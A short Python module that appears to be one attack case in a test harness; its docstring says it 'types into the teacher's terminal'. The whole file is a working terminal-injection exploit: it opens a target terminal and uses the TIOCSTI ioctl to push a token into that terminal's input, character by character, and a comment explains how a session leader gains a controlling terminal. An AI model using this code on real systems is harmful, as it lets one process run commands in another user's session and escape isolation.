"""Types into the teacher's terminal."""

# judge: heard
# needs: tiocsti

import fcntl
import os
import termios


def attack(ground):
    # A process that leads a session and has no terminal takes the first one it opens.
    terminal = os.open(ground["terminal"], os.O_RDWR)
    for sign in ground["token"]:
        fcntl.ioctl(terminal, termios.TIOCSTI, sign.encode())
